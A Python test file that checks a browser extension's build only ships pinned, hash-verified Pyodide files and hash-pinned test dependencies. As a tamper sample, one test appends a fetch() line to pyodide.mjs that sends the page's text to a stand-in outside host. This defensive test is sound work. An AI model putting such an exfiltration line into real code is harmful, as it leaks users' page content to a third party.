"""What ships is what was pinned (issue 7, item 6).

- npm: `npm audit` of what ships (Pyodide) when the registry's audit endpoint answers; offline,
  the Pyodide files are traced to the lock file: the npm tarball with the lock's sha512
  integrity holds exactly the files whose sums `pyodide.sha256` records.
- Pyodide: build.py bundles only files matching the committed `pyodide.sha256`, refuses a
  tampered one, and the built extension's files match it; the standard library and the wheel
  differ only by bytecode made from exactly their sources (and the packs' compiled word lists).
- pip: requirements/test.txt pins every test package and transitive dependency with hashes.
"""

from __future__ import annotations

import _imp
import base64
import hashlib
import importlib.util
import io
import json
import re
import shutil
import subprocess
import tarfile
import tomllib
import zipfile
from pathlib import Path

import pytest

from tests.conftest import ROOT

PINNED_PYODIDE = "314.0.7"


def _load_build():  # build.py is a script, not a package module
    spec = importlib.util.spec_from_file_location("policy_guard_build", ROOT / "build.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


build = _load_build()
LOCK = json.loads((ROOT / "package-lock.json").read_text())
PYODIDE_LOCK = LOCK["packages"]["node_modules/pyodide"]


# --- npm ---------------------------------------------------------------------------------------


def test_npm_audit_of_what_ships():
    """No high or critical advisory for the shipped dependencies (Pyodide), when the registry can say."""
    npm = shutil.which("npm")
    if npm is None:
        pytest.skip("npm is not installed")
    try:
        proc = subprocess.run(
            [npm, "audit", "--omit=dev", "--audit-level=high", "--json"],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=90,
        )
    except subprocess.TimeoutExpired:
        pytest.skip("npm audit timed out: the registry's audit endpoint is not reachable from here")
    try:
        report = json.loads(proc.stdout or "{}")
    except json.JSONDecodeError:
        report = {}
    counts = report.get("metadata", {}).get("vulnerabilities")
    if counts is None:  # e.g. "audit endpoint returned an error" (405 from a mirror), or offline
        reason = (report.get("error", {}).get("summary") or proc.stderr.strip() or "no report")[:200]
        pytest.skip(f"npm audit could not reach the registry's audit endpoint: {reason}")
    assert counts.get("high", 0) == 0 and counts.get("critical", 0) == 0, report.get("vulnerabilities")


def test_pyodide_is_pinned_exactly():
    package = json.loads((ROOT / "package.json").read_text())
    assert package["dependencies"] == {"pyodide": PINNED_PYODIDE}  # an exact version, no range
    assert PYODIDE_LOCK["version"] == PINNED_PYODIDE
    assert PYODIDE_LOCK["integrity"].startswith("sha512-")
    installed = json.loads((build.PYODIDE / "package.json").read_text())
    assert installed["version"] == PINNED_PYODIDE


def _npm_cache() -> Path:
    npm = shutil.which("npm")
    if npm:
        out = subprocess.run([npm, "config", "get", "cache"], capture_output=True, text=True, timeout=30)
        if out.returncode == 0 and out.stdout.strip():
            return Path(out.stdout.strip())
    return Path.home() / ".npm"


def test_pinned_sums_are_the_locked_tarballs_files():
    """Offline stand-in for the registry: the tarball `npm ci` verified against the lock's sha512
    (found in npm's content-addressed cache) holds files with exactly the sums in pyodide.sha256."""
    digest = base64.b64decode(PYODIDE_LOCK["integrity"].removeprefix("sha512-")).hex()
    tarball = _npm_cache() / "_cacache" / "content-v2" / "sha512" / digest[:2] / digest[2:4] / digest[4:]
    if not tarball.is_file():
        pytest.skip(f"the locked Pyodide tarball is not in npm's cache ({tarball}); `npm ci` puts it there")
    data = tarball.read_bytes()
    assert hashlib.sha512(data).hexdigest() == digest
    sums = build.read_sums(build.PYODIDE_SUMS)
    with tarfile.open(fileobj=io.BytesIO(data)) as archive:
        for name in build.PYODIDE_FILES:
            member = archive.extractfile(f"package/{name}")
            assert member is not None, name
            assert hashlib.sha256(member.read()).hexdigest() == sums[name], name


# --- Pyodide files -----------------------------------------------------------------------------


def test_sums_file_lists_exactly_the_bundled_core_files():
    sums = build.read_sums(build.PYODIDE_SUMS)
    assert sorted(sums) == sorted(build.PYODIDE_FILES)
    assert all(re.fullmatch(r"[0-9a-f]{64}", digest) for digest in sums.values())


def test_node_modules_pyodide_matches_the_pinned_sums():
    assert build.verify_pyodide(build.PYODIDE) == build.read_sums(build.PYODIDE_SUMS)


@pytest.fixture
def pyodide_copy(tmp_path: Path) -> Path:
    copy = tmp_path / "pyodide"
    copy.mkdir()
    for name in build.PYODIDE_FILES:
        shutil.copy2(build.PYODIDE / name, copy / name)
    return copy


def test_verification_passes_on_an_honest_copy(pyodide_copy):
    build.verify_pyodide(pyodide_copy)


@pytest.mark.parametrize("name", ["pyodide.asm.wasm", "pyodide.asm.mjs", "pyodide-lock.json"])
def test_tampered_pyodide_file_is_refused(pyodide_copy, name):
    target = pyodide_copy / name
    data = bytearray(target.read_bytes())
    data[len(data) // 2] ^= 0x01  # one bit
    target.write_bytes(bytes(data))
    with pytest.raises(build.BuildError, match=rf"{re.escape(name)} does not match pyodide\.sha256"):
        build.verify_pyodide(pyodide_copy)


def test_appended_code_is_refused(pyodide_copy):
    with (pyodide_copy / "pyodide.mjs").open("a") as file:
        file.write("\nfetch('https://example.invalid/?' + document.body.innerText);\n")
    with pytest.raises(build.BuildError, match="does not match"):
        build.verify_pyodide(pyodide_copy)


def test_missing_file_or_sum_is_refused(pyodide_copy, tmp_path):
    (pyodide_copy / "python_stdlib.zip").unlink()
    with pytest.raises(build.BuildError, match=r"python_stdlib\.zip is missing"):
        build.verify_pyodide(pyodide_copy)
    partial = tmp_path / "partial.sha256"
    partial.write_text("".join(line + "\n" for line in build.PYODIDE_SUMS.read_text().splitlines()[1:]))
    with pytest.raises(build.BuildError, match="has no sha256 for"):
        build.verify_pyodide(build.PYODIDE, partial)
    garbled = tmp_path / "garbled.sha256"
    garbled.write_text("not a sum\n")
    with pytest.raises(build.BuildError, match="expected"):
        build.read_sums(garbled)


def test_built_extension_ships_the_pinned_files(extension_dir):
    runtime = extension_dir / "pyodide"
    record = json.loads((runtime / "BUILD.json").read_text())
    sums = build.read_sums(build.PYODIDE_SUMS)
    assert record["pyodide"] == PINNED_PYODIDE
    for name in build.PYODIDE_FILES:
        assert build.sha256(runtime / name) == record["sha256"][name], name
        if name not in build.COMPILED:
            assert record["sha256"][name] == sums[name], name
    assert record["bytecode_added_to"]["python_stdlib.zip"] == sums["python_stdlib.zip"]
    assert build.sha256(runtime / "pychecker.whl") == record["sha256"]["pychecker.whl"]
    # Nothing from Pyodide beyond its core files (no CDN loader, no packages).
    assert sorted(p.name for p in runtime.iterdir()) == sorted([*build.PYODIDE_FILES, "pychecker.whl", "BUILD.json"])


def _bytecode_of(pyc: bytes, source: bytes) -> bool:
    """`pyc` is unchecked hash-based bytecode (PEP 552) made from exactly `source`, by the Python whose
    magic number it carries (the source hash is keyed by it, so this works across versions)."""
    key = int.from_bytes(pyc[:4], "little")
    return pyc[4:8] == (1).to_bytes(4, "little") and pyc[8:16] == _imp.source_hash(key, source)


def test_shipped_standard_library_is_the_pinned_one_with_bytecode(extension_dir):
    """Each module is the pinned source, or bytecode made from it; nothing else was added or changed."""
    with (
        zipfile.ZipFile(build.PYODIDE / "python_stdlib.zip") as pinned,
        zipfile.ZipFile(extension_dir / "pyodide" / "python_stdlib.zip") as shipped,
    ):
        expected, compiled = set(), 0
        for info in pinned.infolist():
            source = pinned.read(info)
            if info.filename in shipped.namelist():
                assert shipped.read(info.filename) == source, info.filename
                expected.add(info.filename)
            else:
                assert _bytecode_of(shipped.read(info.filename + "c"), source), info.filename
                expected.add(info.filename + "c")
                compiled += 1
        assert set(shipped.namelist()) == expected
    assert compiled > 100  # the boot's modules (encodings, asyncio, ...) and the checker's (tomllib, json, ...)


def test_shipped_wheel_is_the_built_one_with_bytecode_and_compiled_lists(extension_dir):
    """Every file of the wheel pip built is shipped unchanged (RECORD aside); what the build adds is
    bytecode of its modules and each pack's compiled word lists; RECORD vouches for all of it."""
    built = next((ROOT / "build" / "wheel").glob("pychecker-*.whl"))
    with zipfile.ZipFile(built) as original, zipfile.ZipFile(extension_dir / "pyodide" / "pychecker.whl") as shipped:
        names = set(shipped.namelist())
        record_name = next(n for n in names if n.endswith(".dist-info/RECORD"))
        for name in original.namelist():
            if name != record_name:
                assert shipped.read(name) == original.read(name), name
        added = names - set(original.namelist())
        sources = [n for n in original.namelist() if n.endswith(".py")]
        assert {n + "c" for n in sources} <= added
        for name in sources:
            assert _bytecode_of(shipped.read(name + "c"), original.read(name)), name
        lexicons = added - {n + "c" for n in sources}
        assert lexicons and all(n.startswith("pychecker/packs/") and "/lists/__cache__/" in n for n in lexicons)
        listed = {}
        for row in shipped.read(record_name).decode().splitlines():
            name, digest, _size = row.rsplit(",", 2)
            listed[name] = digest
        assert set(listed) == names
        for name in names - {record_name}:
            digest = base64.urlsafe_b64encode(hashlib.sha256(shipped.read(name)).digest()).rstrip(b"=").decode()
            assert listed[name] == f"sha256={digest}", name


# --- pip ---------------------------------------------------------------------------------------

_REQUIREMENT = re.compile(r"^([A-Za-z0-9_.\-]+)==([^\s\\;]+)")


def _requirements() -> dict[str, tuple[str, list[str]]]:
    """requirements/test.txt -> {name: (version, hashes)}."""
    found: dict[str, tuple[str, list[str]]] = {}
    current = None
    for line in build.TEST_REQUIREMENTS.read_text().splitlines():
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
        if match := _REQUIREMENT.match(stripped):
            current = match.group(1).lower().replace("_", "-")
            found[current] = (match.group(2), [])
        elif stripped.startswith("--hash=sha256:"):
            assert current, line
            found[current][1].append(stripped.removeprefix("--hash=sha256:").rstrip(" \\"))
        else:
            pytest.fail(f"unexpected line in requirements/test.txt (only pins and hashes): {line!r}")
    return found


def _pins(lines: list[str]) -> dict[str, str]:
    return {m.group(1).lower(): m.group(2) for line in lines if (m := _REQUIREMENT.match(line.strip()))}


def test_every_test_requirement_is_pinned_with_hashes():
    requirements = _requirements()
    assert requirements
    for name, (version, hashes) in requirements.items():
        assert re.fullmatch(r"[0-9][0-9A-Za-z.]*", version), (name, version)
        assert hashes and all(re.fullmatch(r"[0-9a-f]{64}", h) for h in hashes), name
    # The transitive dependencies are there too, not only what we asked for.
    assert {"pluggy", "iniconfig", "packaging", "pygments", "greenlet", "sortedcontainers"} <= set(requirements)
    assert {"setuptools", "wheel"} <= set(requirements)  # the editable install's build backend


def test_requirements_agree_with_pyproject():
    extra = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["optional-dependencies"]["test"]
    wanted = _pins(extra)
    assert len(wanted) == len(extra), "every test extra is pinned with =="
    compiled = {name: version for name, (version, _) in _requirements().items()}
    source = _pins((ROOT / "requirements" / "test.in").read_text().splitlines())
    for name, version in wanted.items():
        assert compiled.get(name) == version == source.get(name), name


def test_build_installs_test_packages_by_hash():
    source = (ROOT / "build.py").read_text()
    assert '"--require-hashes", "-r", TEST_REQUIREMENTS' in source
    assert '"--no-build-isolation", "--no-deps", "-e", ROOT' in source
